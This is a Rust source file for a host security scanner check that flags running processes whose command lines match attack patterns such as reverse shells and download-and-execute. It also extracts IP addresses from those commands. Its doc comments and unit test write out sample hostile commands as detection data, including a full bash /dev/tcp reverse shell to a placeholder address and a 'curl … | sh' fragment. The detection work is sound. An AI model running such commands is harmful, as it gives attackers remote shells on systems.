//! `process.malicious_cmdline` — running processes whose command line is a known attack pattern.
//!
//! **What it looks at:** the argv of every process, through the shared command detector
//! ([`huoyan_cmdscan`]) that also reads cron lines, histories and unit files: reverse and bind
//! shells, download-and-execute, tunnels, scanners, encoded payloads (decoded and re-checked).
//!
//! **Why an attacker leaves this trace:** the live process is the attack itself: `bash -c 'bash
//! -i >& /dev/tcp/…'`, `python -c 'import socket…'`, `socat exec:…`, `curl … | sh`.
//!
//! **Example:** pid 5150 `sh -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`, rule
//! `revshell.dev_tcp`.
//!
//! **Calibration:** role `activity`; critical or high only for evidence that an attacker acted,
//! medium for what needs a look, low and info for context; a weakness rather than an act is
//! marked `hardening` (docs/PRECISION.md).
//!
//! **ATT&CK:** T1059 (Command and Scripting Interpreter), with the technique of the rule that
//! fired in the evidence.

use huoyan_core::{CheckInfo, Outcome};
use serde_json::json;

use crate::registry::Check;
use crate::Context;

/// See the module documentation.
pub struct MaliciousCommandLine;

static INFO: CheckInfo = CheckInfo {
    id: "process.malicious_cmdline",
    title: "Running process with a malicious command line",
    title_zh: "正在运行的进程命令行具有恶意特征",
    mitre: &["T1059"],
    remediation: "Note the remote addresses in the command, dump the process, stop it, and find \
                  what launched it (parent process, cron, unit files, web server).",
    remediation_zh: "记录命令中的远端地址，转储进程后结束它，并追查启动来源（父进程、cron、服务单元、Web 服务）。",
};

impl Check for MaliciousCommandLine {
    fn info(&self) -> &'static CheckInfo {
        &INFO
    }
    fn live_only(&self) -> bool {
        true
    }
    fn run(&self, ctx: &Context, out: &mut Outcome) {
        let Some(scene) = super::scene(ctx, out) else {
            return;
        };
        for p in super::examined(ctx, scene) {
            if p.cmdline.is_empty() || p.pid == std::process::id() {
                continue;
            }
            let command = p.cmdline.join(" ");
            let hits: Vec<_> = huoyan_cmdscan::scan(&command)
                .into_iter()
                .filter(|h| h.is_alert())
                .collect();
            let Some(worst) = hits.iter().max_by_key(|h| h.severity) else {
                continue;
            };
            let mut f = INFO
                .finding(
                    worst.severity,
                    format!("pid {} runs {:?}: {}", p.pid, command, worst.reason),
                )
                .pid(p.pid)
                .user(p.user_label())
                .at(p.start_time)
                .evidence(json!({
                    "command": command,
                    "rules": hits.iter().map(|h| &h.rule).collect::<Vec<_>>(),
                    "excerpt": worst.excerpt,
                    "attack": hits.iter().map(|h| &h.attack).collect::<Vec<_>>(),
                    "ppid": p.ppid,
                }));
            for h in &hits {
                if !f.mitre.contains(&h.attack) && !h.attack.is_empty() {
                    f.mitre.push(h.attack.clone());
                }
            }
            for ip in ipv4_literals(&command) {
                f = f.ip(ip);
            }
            out.add(f);
        }
    }
}

/// IPv4 addresses written in a command (`/dev/tcp/203.0.113.7/4444`, `nc 203.0.113.7 4444`).
pub(crate) fn ipv4_literals(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for token in text.split(|c: char| !(c.is_ascii_digit() || c == '.')) {
        if token.split('.').count() == 4
            && token.parse::<std::net::Ipv4Addr>().is_ok()
            && !out.iter().any(|x| x == token)
        {
            out.push(token.to_string());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    #[test]
    fn finds_ips() {
        assert_eq!(
            super::ipv4_literals("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
            vec!["203.0.113.7"]
        );
        assert!(super::ipv4_literals("version 1.2.3").is_empty());
    }
}
